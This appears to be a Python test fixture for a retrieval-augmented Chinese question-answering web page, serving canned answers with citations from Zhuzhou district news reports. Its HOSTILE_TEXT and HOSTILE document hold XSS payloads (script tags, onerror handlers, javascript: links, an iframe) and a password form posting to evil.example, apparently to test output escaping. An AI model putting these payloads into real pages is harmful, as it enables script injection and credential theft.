"""A small computable assistant behind the page's port; `python tests/web/fake_assistant.py` serves it for the eye."""

from __future__ import annotations

import datetime as dt
import sys
from collections.abc import Sequence
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[2]))

from rag.errors import IndexDamagedError, QuestionError
from rag.records import Answer, AnswerStatus, Citation, Document

TIANYUAN = Document(
    id="tianyuan-2021",
    title="培育制造名城 建设幸福株洲——县市区两会特别报道·天元篇",
    publisher="株洲日报",
    published_on=dt.date(2021, 10, 28),
    places=("天元区",),
    inferred=("published_on",),
    text="""# 培育制造名城 建设幸福株洲
## ——县市区两会特别报道·天元篇
五年是节点，更是新的开始。10月27日，天元区第六届人民代表大会第一次全体会议召开。站在“两个一百年”历史交汇的关键节点上，这次会议的意义不言而喻。
### 回顾篇
这是一份关于速度的答卷——
过去五年，天元区紧扣发展要务，扩总量、提质量，综合实力实现跨越提升。高新区综合实力在全国169家国家级高新区排名第34位，在全省134家省级以上园区排名第2位。天元区地区生产总值总量跃升至全市第2位；一般公共预算收入、地方收入总量连续五年保持全市第1位。
### 聚焦1 产业发展
#### 在打造国家重要先进制造业高地中勇当主力军
##### 【报告点击】
在打造国家重要先进制造业高地中勇当主力军，把先进制造业作为立区之本，坚定不移强产业、育企业、兴园区。
##### 【具体举措】
- 全力打造以新能源汽车、新能源装备为主导，以新材料、电子信息为特色的“2+2”产业集群。
- 大力发展生物医药和健康食品、绿色环保等战略性新兴产业。
- 支持时代新材、中车株机、中车株所等头部企业发展，不断拉长链条、提升价值。
### 聚焦7 民生优先
##### 【具体举措】
- 统筹做好高校毕业生、退役军人、失地农民等重点群体就业，力争实现零就业家庭动态援助率达到100%。
- 完善社会保障体系，实施全民参保，加快社保、医保扩面提标。
- 精准落实临时救助、托底救助，让更多需要救助的群体及时得到帮助。""",
)
SHIFENG = Document(
    id="shifeng-2021",
    title="县市区两会特别报道·石峰篇",
    text="""更“高”
加快构建现代产业体系
聚焦壮大主导产业。该区将厚植产业优势，加快打造国际领先的轨道交通装备制造产业集群，力争到2025年，全区轨道交通装备制造制造业产值突破千亿元大关。
裂变培育新增长极。积极抢占新兴产业、未来产业先机，着力打造功率半导体、永磁动力等一批百亿增长极。""",
)
HOSTILE_TEXT = (
    "<img src=http://evil.example/a.png onerror=window.XSS=1> <script>window.XSS=2</script> ${window.XSS=3} {{value}} "
    "</mark><iframe srcdoc='<script>parent.XSS=4</script>'></iframe> [x](javascript:window.XSS=5) "
    "![p](http://evil.example/b.png) <form action=//evil.example><input type=password></form> http://evil.example/c"
)
HOSTILE = Document(
    id="hostile",
    title="<b onmouseover=window.XSS=6>注入</b>\"'",
    publisher="<script>window.XSS=7</script>",
    url="javascript:window.XSS=8",
    text=f"### {HOSTILE_TEXT}\n- {HOSTILE_TEXT}\n{HOSTILE_TEXT}",
)

RANK = "高新区综合实力在全国169家国家级高新区排名第34位，在全省134家省级以上园区排名第2位。"
GDP = "天元区地区生产总值总量跃升至全市第2位；"
JOBS = "力争实现零就业家庭动态援助率达到100%。"
RAIL = "力争到2025年，全区轨道交通装备制造制造业产值突破千亿元大关。"


def cite(document: Document, quote: str, marker: int, path: tuple[str, ...] = ()) -> Citation:
    """The citation of the quote's first place in the document."""
    start = document.text.index(quote)
    return Citation(
        marker=marker,
        document_id=document.id,
        title=document.title,
        publisher=document.publisher,
        published_on=document.published_on,
        heading_path=path,
        start=start,
        end=start + len(quote),
        quote=quote,
    )


class FakeAssistant:
    """Answers by keyword from three documents; `asked` keeps what it was called with."""

    def __init__(self, documents: Sequence[Document] = (TIANYUAN, SHIFENG, HOSTILE)) -> None:
        self.reports = {document.id: document for document in documents}
        self.asked: list[tuple[str, tuple[str, ...]]] = []

    def document(self, document_id: str) -> Document | None:
        """The report with this id."""
        return self.reports.get(document_id)

    def documents(self) -> tuple[Document, ...]:
        """All reports."""
        return tuple(self.reports.values())

    def ask(self, question: str, history: Sequence[str] = ()) -> Answer:
        """One of a few canned answers."""
        self.asked.append((question, tuple(history)))
        if not question.strip():
            raise QuestionError("请先输入问题。 / Please type a question first.")
        if len(question) > 500:
            raise QuestionError("问题太长，请不要超过500字。 / Please keep it under 500 characters.")
        if "崩溃" in question:
            raise IndexDamagedError("a file of the index does not match its checksum")
        if "注入" in question:
            return self._answer(question, HOSTILE_TEXT + "[1][9]", (cite(HOSTILE, HOSTILE_TEXT, 1, (HOSTILE_TEXT,)),))
        if "那" in question and history:
            return self._answer(
                question, f"{RAIL}[1]", (cite(SHIFENG, RAIL, 1),), completed="石峰区的轨道交通装备产值目标是多少？"
            )
        if "排" in question or "rank" in question:
            return self._ranked(question)
        return Answer(
            question=question,
            completed_question=question,
            status=AnswerStatus.NOT_FOUND,
            text="已收录的报告里没有找到能回答这个问题的内容。\n可以换一种问法，或说明是哪个区、哪一年。",
            suggestions=("高新区综合实力在全国排第几位？",),
        )

    def _ranked(self, question: str) -> Answer:
        citations = (
            cite(TIANYUAN, RANK, 1, ("培育制造名城 建设幸福株洲", "回顾篇")),
            cite(TIANYUAN, GDP, 2, ("培育制造名城 建设幸福株洲", "回顾篇")),
            cite(TIANYUAN, JOBS, 3, ("聚焦7 民生优先", "【具体举措】")),
            cite(SHIFENG, RAIL, 4),
        )
        text = f"{RANK}[1]{GDP}[2]\n民生和产业方面：\n- {JOBS}[3]\n- 石峰区{RAIL}[4]"
        return self._answer(question, text, citations, notes=("这份报告的日期据正文推断，排名可能已经变化。",))

    def _answer(
        self,
        question: str,
        text: str,
        citations: tuple[Citation, ...],
        *,
        completed: str = "",
        notes: tuple[str, ...] = (),
    ) -> Answer:
        return Answer(
            question=question,
            completed_question=completed or question,
            status=AnswerStatus.ANSWERED,
            text=text,
            citations=citations,
            suggestions=("那石峰区呢？", "天元区在民生方面有哪些举措？"),
            notes=notes,
        )


if __name__ == "__main__":
    from rag.config import Settings
    from rag.web.server import serve

    serve(Settings(), FakeAssistant())
